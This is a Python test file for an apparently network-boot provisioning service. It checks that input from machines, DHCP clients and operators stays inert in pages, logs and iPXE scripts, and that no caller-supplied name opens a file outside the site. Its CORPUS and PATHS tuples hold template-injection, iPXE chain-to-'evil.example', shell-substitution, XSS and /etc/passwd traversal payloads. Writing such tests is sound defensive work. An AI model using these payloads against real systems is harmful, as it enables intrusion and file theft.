"""What a machine, its DHCP client or its hardware may say: inert in every page, log and script, and no way to a file (S4, S5, S6, S12)."""

import json
import re
import sys
import time
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

import pytest
from cryptography.hazmat.primitives.asymmetric import ec
from flask.testing import FlaskClient

from hps.boot import ipxe
from hps.boot.model import Explain, Install, Menu, Rescue, Restart, Wait
from hps.commands import table
from hps.errors import InvalidInput
from hps.flows import enlist, lease, site
from hps.flows.model import Site
from hps.registry.keys import KEYS
from hps.registry.model import cluster_name, setting
from hps.security import audit, certificates
from hps.values import Mac
from hps_api import create_app
from tests.edge.callers import LOCAL, NEW, OWN, PLAIN, Callers, make_callers
from tests.edge.examples import EXAMPLES, content
from tests.sites import mac_of
from tests.unit.hps_api.test_forms import is_whole
from tests.unit.security.test_authority import request_of

pytestmark = pytest.mark.programs
IPXE = {**PLAIN, "User-Agent": "iPXE/1.0"}

CORPUS = (
    "{{7177*7177}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${7177*7177}",
    "${net0/mac}",
    "<%= 7177*7177 %>",
    "$SNIPPET('autoinstall')",
    "#!ipxe",
    "a\nchain http://evil.example/x",
    "a\r\nchain http://evil.example/x",
    "a && reboot",
    "a || reboot",
    "a; reboot",
    "`reboot`",
    "$(reboot)",
    "'\"",
    "a\0b",
    "a\u2028chain http://evil.example",
    "a\u0085b",
    "\u202eevil",
    "\x1b]0;evil\x07\x1b[2J",
    "<script>alert(7)</script>",
    '"><img src=x onerror=alert(7)>',
    "javascript:alert(7)",
    "</title><svg/onload=alert(7)>",
    "%0Achain%20http://evil.example",
    "%s%n%x {0} {__class__}",
    "x" * 5000,
)
HARMFUL = tuple(text for text in CORPUS if not re.fullmatch(r"[A-Za-z0-9 ,.:/_+@=%-]*", text))
"""What a boot script could take for something else than a word."""

MARKUP = ("<script>alert", "<img src=x", "<svg/onload", "onerror=alert(7)>")


@pytest.fixture
def callers(tmp_path: Path) -> Callers:
    return make_callers(tmp_path)


@pytest.fixture
def client(callers: Callers) -> FlaskClient:
    return create_app(callers.at.paths).test_client()


def said_by_machines(client: FlaskClient, callers: Callers, text: str) -> None:
    """Say it in every field that a machine can supply."""
    node = callers.headers["node"]
    calls: list[tuple[str, Mapping[str, Any], Mapping[str, str]]] = [
        ("install_step", {"step": "manifest", "detail": text}, node),
        ("install_step", {"step": text}, node),
        ("log_message", {"message": text, "function": text}, node),
        ("log_message", {"message": text, "function": text}, PLAIN),
        ("register", {"os": {"ID": text, "VERSION_ID": text, "PRETTY_NAME": text}, "audit": {"HOST_VENDOR": text}}, node),
        ("register", {"os": {text: text}, "audit": {f"HOST_{text}": text}}, node),
        ("register", {"os": {"ID": "x"}, "image": text, "slot": text, "booted": text, "session": text}, node),
        ("host_audit", {"data": f"vendor={quote(text)}|{text}=1"}, node),
        ("host_audit", {"data": f"vendor={quote(text)}"}, PLAIN),
        ("host_variable", {"name": "LAST_REBOOT_COMMAND", "value": text}, node),
        ("host_variable", {"name": text, "value": text}, node),
        ("init", {"arch": text}, PLAIN),
        ("process_menu_item", {"menu_item": text}, PLAIN),
        ("install_begin", {"disk": text, "size": text, "blank": text}, node),
        ("install_failed", {"reason": text}, node),
        ("certificate", {"token": text, "csr": text}, PLAIN),
        (text, {}, node),
    ]
    for name, given, headers in calls:
        answer = client.post(f"/api/{quote(name, safe='')}", json=given, headers={**headers, "User-Agent": agent(text)})
        assert answer.status_code < 500, (name, answer.text)


def agent(text: str) -> str:
    """The text as a header can carry it."""
    return "".join(character if " " <= character <= "~" else "?" for character in text)[:200]


@pytest.mark.feature("S4", "S20")
def test_whatever_machines_say_is_inert(client: FlaskClient, callers: Callers, caplog: pytest.LogCaptureFixture) -> None:
    at = callers.at
    for text in CORPUS:
        for number in (NEW, OWN):
            site.timeline(at).record(mac_of(number), "script", text)
        said_by_machines(client, callers, text)
        enlist.set_state(at, mac_of(OWN), STATE="INSTALLING")
        if text == CORPUS[0]:
            assert text in site.host_values(at, mac_of(OWN)).values(), "what is harmless as data is kept as data"
        pages_are_inert(client)
        answers_are_inert(client)
    logs_are_plain(at)
    assert caplog.records
    for record in caplog.records:
        assert record.getMessage().isprintable(), record.getMessage()


def pages_are_inert(client: FlaskClient) -> None:
    for path in ("/", "/fragment", f"/hosts/{mac_of(OWN).digits}", f"/hosts/{mac_of(NEW).digits}/fragment"):
        answer = client.get(path, headers=LOCAL)
        assert answer.status_code == 200
        inert(answer.text, page=True)


def answers_are_inert(client: FlaskClient) -> None:
    for name, given in (("host_list", {}), ("host_show", {"host": "sch-001"}), ("host_timeline", {"host": "sch-001"})):
        for accept in ("text/html", "application/json", "text/plain", "text/x-ipxe"):
            answer = client.post(f"/api/{name}", json=given, headers={**LOCAL, "Accept": accept})
            assert answer.status_code == 200
            inert(answer.text, page=accept == "text/html")
            if accept == "text/plain":
                keys = [line.partition("=")[0] for line in answer.text.split("\n")[:-1]]
                assert all(re.fullmatch("[A-Za-z_0-9]+", key) for key in keys), "no value forges a line"
                assert all(character.isprintable() or character == "\n" for character in answer.text)
            if accept == "text/x-ipxe":
                plain(answer.text)


def logs_are_plain(at: Site) -> None:
    for member in (True, False):
        log = audit.path(at.paths, member).read_bytes()
        assert all(32 <= byte < 127 or byte == 10 for byte in log)
        assert all(line.startswith(b"time=2") and b" outcome=" in line for line in log.splitlines())
    for path in (at.paths.log / "boots").glob("*.jsonl"):
        for line in path.read_text().split("\n")[:-1]:
            assert json.loads(line)["detail"].isprintable()


def inert(text: str, page: bool) -> None:
    """No template was run, and what looks like markup is not markup."""
    assert str(7177 * 7177) not in text
    assert "class &#39;" not in text
    assert "<class" not in text
    if (page and "<html" in text) or (page and "<article" in text):
        assert is_whole(text)
        assert not [word for word in MARKUP if word in text]


def plain(script: str) -> None:
    """A script of ours, in which nothing of the corpus is left that iPXE would act on."""
    assert script.startswith("#!ipxe\n")
    assert script.isascii()
    for line in script.split("\n")[1:]:
        if line.startswith("echo"):
            assert re.fullmatch(r"echo[A-Za-z0-9 ,.:/_+@=%-]*", line), line
        assert "evil" not in line or line.startswith("echo "), line


@pytest.mark.feature("S5")
@pytest.mark.parametrize("text", HARMFUL)
def test_what_would_reach_a_script_is_refused_when_it_is_written(client: FlaskClient, callers: Callers, text: str) -> None:
    """By a machine, and by an operator: every parameter and key that stands in a boot script or on a kernel command line."""
    at, before = callers.at, content(callers.at)
    for name, given in (("init", {"arch": text}), ("process_menu_item", {"menu_item": text})):
        assert client.post(f"/api/{name}", json=given, headers=PLAIN).status_code == 400
        if "\0" not in text:
            query = urlencode({"cmd": name, **given})
            assert client.post("/hps-api", data=query, headers=PLAIN, content_type="application/x-www-form-urlencoded").status_code == 400
    host, cluster = ("HOSTNAME", "IP", "OS_ID", "TYPE", "STATE"), ("CONSOLE", "DHCP_IP", "DNS_DOMAIN", "POLL_INTERVAL", "MENU_TIMEOUT")
    for key in host:
        given = {"host": "sch-001", "key": key, "value": text}
        assert client.post("/api/host_config_set", json=given, headers=LOCAL).status_code == 400, key
    for key in cluster:
        given = {"key": key, "value": text}
        assert client.post("/api/cluster_config_set", json=given, headers=LOCAL).status_code == 400, key
    for name in ("host_configure",):
        for given in (
            {"host": text, "type": "SCH"},
            {"host": str(mac_of(3)), "type": text},
            {"host": str(mac_of(3)), "type": "SCH", "os": text},
        ):
            assert client.post(f"/api/{name}", json=given, headers=LOCAL).status_code in (400, 404, 409)
    assert content(at) == before


RENDERED = (
    lambda text: Menu("x", (), text, 5),
    lambda text: Install(text, mac_of(1), "sch-001", "SCH", token="t", authority="a", session="s"),
    lambda text: Install("f", mac_of(1), "sch-001", "SCH", token=text, authority="a", session="s"),
    lambda text: Install("f", mac_of(1), "sch-001", "SCH", token="t", authority=text, session="s"),
    lambda text: Install("f", mac_of(1), "sch-001", "SCH", token="t", authority="a", session=text),
    lambda text: Rescue(text, mac_of(1), "sch-001"),
)


@pytest.mark.feature("S5")
@pytest.mark.parametrize("make", RENDERED)
@pytest.mark.parametrize("text", HARMFUL)
def test_what_came_round_the_check_is_refused_when_it_is_rendered(make: Any, text: str) -> None:
    with pytest.raises(InvalidInput):
        ipxe.render(make(text), "10.77.0.1", "")
    with pytest.raises(InvalidInput):
        ipxe.render(Rescue("f", mac_of(1), "sch-001"), "10.77.0.1", text)
    for shown in (Wait(text, (text,), 5), Explain(text, text), Restart(text)):
        plain(ipxe.render(shown, "10.77.0.1"))


@pytest.mark.feature("S5")
@pytest.mark.parametrize("text", HARMFUL)
def test_a_record_that_was_written_by_hand_makes_no_script(client: FlaskClient, callers: Callers, text: str) -> None:
    """Whoever edits a file goes round every check of the program; the script is refused all the same."""
    at = callers.at
    kept = dict(KEYS)
    for key in ("HOSTNAME", "ARCH", "OS_ID"):
        KEYS["host", key] = kept["host", "DESCRIPTION"].__class__("host", key, kept["host", "DESCRIPTION"].type, "x")
    KEYS["cluster", "CONSOLE"] = kept["cluster", "DESCRIPTION"]
    try:
        at.registry.change(cluster_name("lab"), setting(CONSOLE=text))
        enlist.configure(at, mac_of(NEW), "SCH")
        for key in ("HOSTNAME", "ARCH", "OS_ID"):
            at.registry.change(site.record_name(at, mac_of(NEW)), setting(STATE="INSTALLING", **{key: text}))
            answer = client.get("/hps-api?cmd=init", headers=IPXE)
            assert answer.status_code == 200
            plain(answer.text)
            assert "hps.token" not in answer.text
            assert "cannot go on" in answer.text or "asking again" in answer.text
    finally:
        KEYS.clear()
        KEYS.update(kept)


@pytest.mark.feature("S4")
def test_what_a_dhcp_client_says_is_inert(client: FlaskClient, callers: Callers) -> None:
    """dnsmasq gives its hook the host name and the client's words; they reach the timeline, the pages and no shell."""
    at = callers.at
    for number, text in enumerate(CORPUS):
        name = agent(text).replace(" ", "_") or "*"
        at.paths.leases.write_text(f"4000000000 {mac_of(NEW)} 10.77.0.210 {name} {name}\n")
        assert client.get("/hps-api?cmd=health", headers=PLAIN).status_code == 200
        for action in ("add", "old"):
            said = {"DNSMASQ_SUPPLIED_HOSTNAME": text, "DNSMASQ_VENDOR_CLASS": f"PXEClient{text}", "DNSMASQ_TAGS": f"ipxe {text}"}
            lease.lease_event(at.paths, (action, str(mac_of(NEW)), "10.77.0.210", text), said, time.time())
            lease.lease_event(at.paths, ("tftp", text, "10.77.0.210", f"/srv/{text}"), said, time.time())
        assert is_whole(client.get(f"/hosts/{mac_of(NEW).digits}", headers=LOCAL).text), number
    assert not [word for word in MARKUP if word in client.get("/", headers=LOCAL).text]


@pytest.mark.feature("S4")
def test_the_subject_of_a_request_is_ours_whatever_it_says(callers: Callers) -> None:
    at = callers.at
    for text in CORPUS:
        csr = request_of(ec.generate_private_key(ec.SECP256R1()), text[:60].replace("\0", "?") or "x")
        issued = certificates.issue(at.authority, csr, certificates.NODE, mac_of(OWN).digits, 30, "sch-001")
        owner = certificates.certificate_owner(issued.pem)
        assert (owner.kind, owner.name) == ("node", mac_of(OWN).digits)


ROOT = Path(__file__).resolve().parents[2]
KERNEL = ("/proc/sys/kernel/random/boot_id", "/proc/sys/net/ipv6/conf/")

PATHS = (
    "..",
    "../../etc/passwd",
    "/etc/passwd",
    "....//....//etc/passwd",
    "..\\..\\etc\\passwd",
    "%2e%2e/%2e%2e/etc/passwd",
    "%252e%252e%252fetc%252fpasswd",
    "..;/etc/passwd",
    "//etc/passwd",
    "\0",
    "a\0.conf",
    ".hidden",
    "-rf",
    "\u2024\u2024/etc",
    "file:///etc/passwd",
    "/proc/self/environ",
    "/dev/zero",
    "x" * 5000,
    "hosts/525400000002",
    "a/b",
)


def own(at: Site, path: str) -> bool:
    """Whether a request may open this file: of the site, of Python or this program, or one of the kernel's tables."""
    place = Path(path)
    if place.is_relative_to(at.paths.base):
        return ".." not in place.parts
    return (
        place.is_relative_to(sys.prefix) or place.is_relative_to(sys.base_prefix) or place.is_relative_to(ROOT) or path.startswith(KERNEL)
    )


@pytest.mark.feature("S6", "S12")
@pytest.mark.parametrize("text", PATHS)
def test_no_name_of_a_caller_becomes_a_path_elsewhere(client: FlaskClient, callers: Callers, text: str, opened: list[str]) -> None:
    """Every parameter of every command that takes a name, and every address: refused or not found, and nothing else is opened."""
    opened.clear()
    for command in table.COMMANDS:
        for caller in sorted(set(command.callers) - {"stranger"}):
            for parameter in command.parameters:
                given = {**EXAMPLES[command.name], parameter.name: text}
                answer = client.post(f"/api/{command.name}", json=given, headers=callers.headers[caller])
                assert answer.status_code < 500, (command.name, given, answer.text)
                assert "root:" not in answer.text
    for given in (
        {"cmd": "installer_config", "name": text},
        {"cmd": "os_variable", "os_id": text, "name": "ARCH"},
        {"cmd": "certificate", "token": f"{text}.x", "csr": "x"},
    ):
        assert client.post("/api/" + given.pop("cmd"), json=given, headers=callers.headers["node"]).status_code in (400, 401, 403, 404)
    for prefix in ("/hosts/", "/static/", "/api/", "/terminal/", "/boot/", "/images/", "/"):
        for address in (f"{prefix}{text}", f"{prefix}{quote(text, safe='')}", f"{prefix}{quote(text)}"):
            if "\0" in address:
                continue
            answer = client.get(address.replace("\u2024", "%E2%80%A4"), headers=LOCAL)
            assert answer.status_code in (200, 400, 403, 404, 405), address
            assert "root:" not in answer.text
            assert answer.status_code != 200 or address in ("/..", "/%2e%2e", "//") or answer.text.startswith("<!doctype")
    assert [path for path in opened if not own(callers.at, path)] == []
    assert {path for path in callers.at.paths.base.rglob("*") if set(path.name) & set("\\%;\0 ")} == set()


@pytest.fixture
def opened() -> Iterator[list[str]]:
    """The files that were opened, as the interpreter's audit events say."""
    found: list[str] = []

    def watch(event: str, arguments: tuple[object, ...]) -> None:
        if watching and event == "open" and isinstance(arguments[0], str | bytes):
            found.append(arguments[0] if isinstance(arguments[0], str) else arguments[0].decode(errors="replace"))

    watching = True
    sys.addaudithook(watch)
    yield found
    watching = False


def test_macs_are_read_and_not_copied() -> None:
    assert Mac.parse("52:54:00:00:00:01").digits == "525400000001"
